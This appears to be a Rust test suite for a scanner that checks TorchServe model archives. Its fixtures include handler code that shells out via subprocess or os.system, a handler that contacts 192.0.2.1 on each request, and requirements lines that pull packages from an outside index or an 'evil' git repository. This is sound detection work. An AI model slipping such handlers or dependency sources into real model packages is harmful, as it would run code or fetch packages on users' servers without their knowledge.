//! TorchServe archives built the way torch-model-archiver builds them (files at the root,
//! `MAR-INF/MANIFEST.json` written last).

use std::io::{Cursor, Write};

use zip::write::SimpleFileOptions;

use super::{handler_module, requirement_source};
use crate::testing::{PICKLE, codes, scan};

fn manifest(handler: &str, extra: &str) -> Vec<u8> {
    format!(
        r#"{{"createdOn": "30/11/2026 22:00:00", "runtime": "python", "model": {{"modelName": "m", "serializedFile": "model.pt", "handler": "{handler}", "modelVersion": "1.0"{extra}}}, "archiverVersion": "0.12.0"}}"#
    )
    .into_bytes()
}

fn mar(files: &[(&str, &[u8])]) -> Vec<u8> {
    let mut w = zip::ZipWriter::new(Cursor::new(Vec::new()));
    for (name, data) in files {
        w.start_file(*name, SimpleFileOptions::default()).unwrap();
        w.write_all(data).unwrap();
    }
    w.finish().unwrap().into_inner()
}

const BENIGN: &[u8] = b"import torch\nfrom ts.torch_handler.base_handler import BaseHandler\n\nclass Handler(BaseHandler):\n    def initialize(self, context):\n        super().initialize(context)\n\n    def postprocess(self, data):\n        return data.argmax(1).tolist()\n";

#[test]
fn an_ordinary_archive_is_clean_and_named() {
    let m = manifest("handler.py", "");
    let data = mar(&[
        ("model.pt", PICKLE),
        ("handler.py", BENIGN),
        ("MAR-INF/MANIFEST.json", &m),
    ]);
    let report = scan(&data);
    assert_eq!(report.format, "torchserve");
    assert!(codes(&report).is_empty(), "{:?}", report.findings);
    let m = manifest("image_classifier", "");
    let report = scan(&mar(&[("model.pt", PICKLE), ("MAR-INF/MANIFEST.json", &m)]));
    assert!(codes(&report).is_empty(), "{:?}", report.findings);
}

#[cfg(feature = "python")]
#[test]
fn a_handler_that_shells_out_in_initialize_is_malicious() {
    let handler = b"import subprocess\nfrom ts.torch_handler.base_handler import BaseHandler\n\nclass Handler(BaseHandler):\n    def initialize(self, context):\n        subprocess.run('echo quarantine-sample', shell=True)\n";
    let m = manifest("handler.py:handle", "");
    let report = scan(&mar(&[
        ("handler.py", handler),
        ("MAR-INF/MANIFEST.json", &m),
    ]));
    assert_eq!(codes(&report), ["MAR001"], "{:?}", report.findings);
    let evidence = report.findings[0].evidence.as_deref().unwrap();
    assert!(evidence.contains("subprocess.run"), "{evidence}");
    assert!(evidence.contains("Handler.initialize"), "{evidence}");
    // A connection opened in `handle` runs on every request.
    let handler = b"import urllib.request\n\ndef handle(data, context):\n    return urllib.request.urlopen('http://192.0.2.1/').read()\n";
    let report = scan(&mar(&[
        ("handler.py", handler),
        ("MAR-INF/MANIFEST.json", &m),
    ]));
    assert_eq!(codes(&report), ["MAR001"], "{:?}", report.findings);
}

#[cfg(feature = "python")]
#[test]
fn other_modules_of_the_archive_are_model_code() {
    let m = manifest("handler.py", r#", "modelFile": "model.py""#);
    let model = b"import os\nimport torch\nos.system('echo quarantine-sample')\nclass Net(torch.nn.Module):\n    pass\n";
    let report = scan(&mar(&[
        ("handler.py", BENIGN),
        ("model.py", model),
        ("MAR-INF/MANIFEST.json", &m),
    ]));
    assert_eq!(codes(&report), ["MAR001"], "{:?}", report.findings);
    assert_eq!(
        report.findings[0].location.member.as_deref(),
        Some("model.py")
    );
}

#[test]
fn a_handler_missing_from_the_archive_is_suspicious() {
    let m = manifest("my_handler.py", "");
    let report = scan(&mar(&[("model.pt", PICKLE), ("MAR-INF/MANIFEST.json", &m)]));
    assert_eq!(codes(&report), ["MAR003"], "{:?}", report.findings);
    let report = scan(&mar(&[("MAR-INF/MANIFEST.json", b"{\"model\": ")]));
    assert_eq!(codes(&report), ["MAR003"], "{:?}", report.findings);
}

#[test]
fn requirements_from_elsewhere_are_suspicious() {
    let m = manifest(
        "image_classifier",
        r#", "requirementsFile": "requirements.txt""#,
    );
    let reqs = b"torch>=2.0\nnumpy==1.26.4 ; python_version < '3.12'\n# git+https://example.com/x\n--extra-index-url http://192.0.2.1/simple\nevil @ git+https://192.0.2.1/evil.git\n";
    let report = scan(&mar(&[
        ("requirements.txt", reqs),
        ("MAR-INF/MANIFEST.json", &m),
    ]));
    assert_eq!(
        codes(&report),
        ["MAR004", "MAR004"],
        "{:?}",
        report.findings
    );
}

#[test]
fn requirement_lines() {
    for line in [
        "torch",
        "numpy==1.26.4",
        "pillow>=10 ; sys_platform == 'linux'",
        "# -i x",
        "",
    ] {
        assert_eq!(requirement_source(line), None, "{line}");
    }
    for line in [
        "-i http://192.0.2.1/simple",
        "--index-url=http://192.0.2.1/simple",
        "--extra-index-url http://192.0.2.1/simple",
        "-f ./wheels",
        "--find-links=/tmp",
        "-e .",
        "-r other.txt",
        "git+https://192.0.2.1/x.git",
        "x @ https://192.0.2.1/x.whl",
        "./local_pkg",
        "/abs/pkg.tar.gz",
        "pkg-1.0-py3-none-any.whl",
        "--trusted-host 192.0.2.1",
    ] {
        assert!(requirement_source(line).is_some(), "{line}");
    }
}

#[test]
fn handler_names_resolve_as_the_model_loader_does() {
    assert_eq!(handler_module("handler.py"), "handler");
    assert_eq!(handler_module("handler.py:entry"), "handler");
    assert_eq!(handler_module("image_classifier"), "image_classifier");
    assert_eq!(handler_module("a/b/custom.py"), "custom");
}
